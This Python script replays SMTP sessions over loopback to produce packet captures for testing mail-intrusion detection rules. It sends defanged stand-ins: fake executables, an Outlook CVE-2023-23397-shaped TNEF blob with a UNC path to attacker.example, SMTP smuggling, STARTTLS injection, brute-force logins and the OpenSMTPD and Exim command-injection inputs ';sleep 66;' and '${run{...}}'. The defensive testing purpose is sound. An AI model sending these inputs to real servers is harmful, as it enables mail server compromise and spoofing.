#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Sessions for the rules-*.pcap captures that test rules/shrike.rules (made by
make-rules-pcaps.sh against the loopback aiosmtpd of aiosmtpd-server.py).

    rules-client.py KIND HOST PORT      KIND: attach, headers, helo, bruteforce,
                                        smuggling, injection, exploits, tnef,
                                        harvest

Nothing here is malware: the "executables" are a few harmless bytes that start with
"MZ" (and a DOS-stub sentence) or with the ELF magic, and the scripts only hold the
strings the rules look for. Loopback only; every read has a timeout.
"""
import base64
import socket
import sys

TIMEOUT = 10
DATE = "Date: Thu, 01 Jan 2026 00:00:00 +0000\r\n"
HELO = "client.shrike.test"


class Raw:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=TIMEOUT)
        self.buf = b""

    def send(self, data):
        self.sock.sendall(data)

    def reply(self):
        while True:
            while b"\r\n" not in self.buf:
                chunk = self.sock.recv(65536)
                if not chunk:
                    raise ConnectionError("server closed the connection")
                self.buf += chunk
            line, self.buf = self.buf.split(b"\r\n", 1)
            if len(line) < 4 or line[3:4] != b"-":
                return int(line[:3])

    def cmd(self, line):
        self.send(line.encode("utf-8", "surrogateescape") + b"\r\n")
        return self.reply()

    def close(self):
        self.sock.close()


def start(host, port, helo=HELO):
    c = Raw(host, port)
    if c.reply() != 220:
        raise RuntimeError("no greeting")
    c.cmd(f"EHLO {helo}")
    return c


def b64(data):
    s = base64.b64encode(data).decode()
    return "".join(s[i:i + 76] + "\r\n" for i in range(0, len(s), 76))


def attachment(name_param, ctype, data):
    return (f"Content-Type: {ctype}\r\n"
            f"Content-Disposition: attachment; {name_param}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64(data))


def mime(subject, parts, msgid, extra=""):
    bnd = "----=_shrike_rules_0"
    body = "This is a test message for the shrike.rules captures.\r\n"
    out = (DATE + "From: Alice <alice@client.shrike.test>\r\nTo: <bob@shrike.test>\r\n"
           f"Subject: {subject}\r\nMessage-Id: <shrike-{msgid}@client.shrike.test>\r\n" + extra +
           f"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{bnd}\"\r\n\r\n"
           f"--{bnd}\r\nContent-Type: text/plain\r\n\r\n{body}")
    for p in parts:
        out += f"--{bnd}\r\n" + p
    return out + f"--{bnd}--\r\n"


def plain(subject, msgid, extra="", body="Hello Bob.\r\n", frm="Alice <alice@client.shrike.test>"):
    return (DATE + f"From: {frm}\r\nTo: <bob@shrike.test>\r\nSubject: {subject}\r\n"
            f"Message-Id: <shrike-{msgid}@client.shrike.test>\r\n" + extra +
            "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + body)


def send_message(c, msg, rcpt="bob@shrike.test"):
    c.cmd("MAIL FROM:<alice@client.shrike.test>")
    c.cmd(f"RCPT TO:<{rcpt}>")
    if c.cmd("DATA") != 354:
        raise RuntimeError("DATA refused")
    c.send(msg.encode("utf-8") + b".\r\n")
    c.reply()


# harmless stand-ins: the first bytes of a PE (MZ and the DOS stub sentence) and of an ELF
FAKE_PE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\r\n$" + \
    b"\x00" * 16 + b"shrike test file, not a program\n"
FAKE_ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"shrike test file, not a program\n"
FAKE_JS = b"// shrike test file\nvar s = 'WScript.Shell'; // never run\n"
FAKE_VBS = b"' shrike test file\r\nDim s: s = \"WScript.Shell\" ' never run\r\n"
FAKE_HTA = b"<html><head><HTA:APPLICATION id=shrike></head><body>shrike test</body></html>\n"


def attach(host, port):
    c = start(host, port)
    send_message(c, mime("Invoice 2026-001", [
        attachment('filename="invoice.pdf.exe"', "application/octet-stream", FAKE_PE)], "rules-exe"))
    send_message(c, mime("Your update", [
        attachment('filename="update.scr"', "application/octet-stream", b"shrike test\n"),
        attachment('filename="setup.js"', "application/javascript", FAKE_JS),
        attachment('filename="run.vbs"', "text/vbscript", FAKE_VBS)], "rules-scripts"))
    send_message(c, mime("Documents", [
        attachment('filename="disk.iso"', "application/octet-stream", b"CD001 shrike test\n"),
        attachment('filename="report.lnk"', "application/octet-stream", b"L\x00\x00\x00shrike\n"),
        attachment('filename="viewer.hta"', "application/hta", FAKE_HTA)], "rules-containers"))
    send_message(c, mime("tool", [
        attachment('filename="tool.bin"', "application/octet-stream", FAKE_ELF)], "rules-elf"))
    # RFC 2231 name with a right-to-left override: shows as "invoice_exe.pdf"
    send_message(c, mime("Invoice", [
        attachment("filename*=utf-8''invoice_%E2%80%AEfdp.exe", "application/octet-stream",
                   b"shrike test\n")], "rules-rlo"))
    c.cmd("QUIT")
    c.close()


def tnef_payload():
    """A TNEF-like winmail.dat with the message classes the ET Open CVE-2023-23397 rules
    look for, each at a 3-byte boundary so that its base64 holds the rules' fast
    patterns, then a UNC path (the reminder sound path of the exploit): bytes only."""
    def u16(t):
        return "".join(c + "\0" for c in t).encode("latin-1")
    pieces = [b"\x78\x9f\x3e\x22", u16("IPM.Task"), b"\0IPM.Task", b"IPM.Microsoft Mail.Note",
              u16("IPM.Microsoft Mail.Note"), b"\0" + u16("IPM.Task"),
              b"\\\\attacker.example\\sound.wav\0"]
    out = b""
    for p in pieces:
        out += p + b" " * (-len(p) % 3)
    return out


def tnef(host, port):
    c = start(host, port)
    send_message(c, mime("Meeting reminder", [
        attachment('filename="winmail.dat"', "application/ms-tnef", tnef_payload())], "rules-tnef"))
    c.cmd("QUIT")
    c.close()


def harvest(host, port):
    # twelve transactions, each one unknown recipient then RSET (directory harvest)
    c = start(host, port)
    for i in range(12):
        c.cmd("MAIL FROM:<alice@client.shrike.test>")
        c.cmd(f"RCPT TO:<unknown-{i}@shrike.test>")
        c.cmd("RSET")
    c.cmd("QUIT")
    c.close()


def headers(host, port):
    c = start(host, port)
    send_message(c, plain("Newsletter", "rules-xm1", "X-Mailer: Atomic Mail Sender 9.10\r\n"))
    send_message(c, plain("Contact form", "rules-xm2", "X-Mailer: PHPMailer 5.2.17\r\n"))
    # encoded words: an RLO and a zero-width space inside the decoded subject
    rlo = base64.b64encode("Payment \u202efdp.exe".encode()).decode()
    send_message(c, plain(f"=?utf-8?B?{rlo}?=", "rules-subj-rlo"))
    send_message(c, plain("=?utf-8?Q?Pay=E2=80=8Bpal_account_locked?=", "rules-subj-zw"))
    # a display name that is itself an address, hidden in an encoded word
    send_message(c, plain("Hi", "rules-from", frm="=?utf-8?B?c2VjdXJpdHlAYmFuay5leGFtcGxl?= "
                          "<attacker@client.shrike.test>"))
    c.cmd("QUIT")
    c.close()


def helo(host, port):
    c = start(host, port, helo="localhost")
    send_message(c, plain("from localhost", "rules-helo"))
    c.cmd("QUIT")
    c.close()


def bruteforce(host, port):
    # six sessions, each one wrong AUTH PLAIN (user shrike, wrong passwords)
    for i in range(6):
        c = start(host, port)
        tok = base64.b64encode(f"\0shrike\0wrong-{i}".encode()).decode()
        c.cmd(f"AUTH PLAIN {tok}")
        c.cmd("QUIT")
        c.close()


def smuggling(host, port):
    c = start(host, port)
    c.cmd("MAIL FROM:<alice@client.shrike.test>")
    c.cmd("RCPT TO:<bob@shrike.test>")
    c.cmd("DATA")
    hidden = ("Hello.\r\n\n.\n"  # <LF>.<LF>: an end of data for a lax server
              "MAIL FROM:<ceo@shrike.test>\r\nRCPT TO:<bob@shrike.test>\r\nDATA\r\n"
              "From: CEO <ceo@shrike.test>\r\nSubject: smuggled\r\n\r\nPay now.\r\n")
    c.send((plain("Hello", "rules-smuggle", body=hidden)).encode() + b".\r\n")
    c.reply()
    c.cmd("QUIT")
    c.close()


def injection(host, port):
    c = start(host, port)
    # STARTTLS and a command in one write (CVE-2011-0411 style)
    c.send(b"STARTTLS\r\nMAIL FROM:<alice@client.shrike.test>\r\n")
    c.reply()
    c.reply()
    c.cmd("QUIT")
    c.close()


def exploits(host, port):
    c = start(host, port)
    # OpenSMTPD CVE-2020-7247 and Exim CVE-2019-10149 shapes; nothing listens for them
    c.cmd("MAIL FROM:<;sleep 66;>")
    c.cmd("RSET")
    c.cmd("MAIL FROM:<>")
    c.cmd("RCPT TO:<${run{\\x2fbin\\x2ftrue}}@localhost>")
    c.cmd("RSET")
    c.cmd("QUIT")
    c.close()


KINDS = {k: globals()[k] for k in
         ("attach", "headers", "helo", "bruteforce", "smuggling", "injection", "exploits",
          "tnef", "harvest")}

if __name__ == "__main__":
    if len(sys.argv) != 4 or sys.argv[1] not in KINDS or sys.argv[2] not in ("127.0.0.1", "::1"):
        sys.exit(f"usage: {sys.argv[0]} {{{','.join(KINDS)}}} 127.0.0.1|::1 PORT")
    KINDS[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
